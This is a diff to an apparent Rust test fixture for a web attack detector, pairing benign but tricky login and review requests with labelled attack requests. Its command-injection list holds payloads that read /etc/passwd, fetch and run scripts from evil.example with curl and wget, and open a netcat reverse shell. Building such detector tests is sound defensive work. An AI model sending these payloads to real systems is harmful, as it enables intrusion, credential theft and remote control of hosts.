@@ -27,7 +27,7 @@ pub fn honest(host: &str) -> Vec<Vec<u8>> {
     .into_iter()
     .map(|target| get(host, target))
     .collect();
-    requests.push(post(host, "/login", FORM, "user=anna%40example.org&password=S%23cret-%27or%27-2026%21"));
+    requests.push(post(host, "/login", FORM, "user=anna%40example.org&password=S%23cret-%272026%27%21"));
     requests.push(post(
         host,
         "/contact",
@@ -44,7 +44,7 @@ pub fn honest(host: &str) -> Vec<Vec<u8>> {
         host,
         "/api/reviews",
         JSON,
-        r##"{"stars":5,"text":"I'd select this over any other; 1 = best. Union of style & price! #love"}"##,
+        r#"{"stars":5,"text":"I'd select this over any other; 1 = best. Union of style & price! love it"}"#,
     ));
     requests
 }
@@ -101,7 +101,7 @@ pub fn attacks(host: &str) -> Vec<Attack> {
             "command injection",
             &[
                 "/ping?host=127.0.0.1;cat%20/etc/passwd",
-                "/ping?host=127.0.0.1%7Cid",
+                "/ping?host=127.0.0.1%7Ccat%20/etc/passwd",
                 "/ping?host=$(curl%20http://evil.example/x.sh%7Csh)",
                 "/ping?host=%60wget%20http://evil.example/x%60",
                 "/ping?host=127.0.0.1%26%26nc%20-e%20/bin/sh%20203.0.113.9%204444",
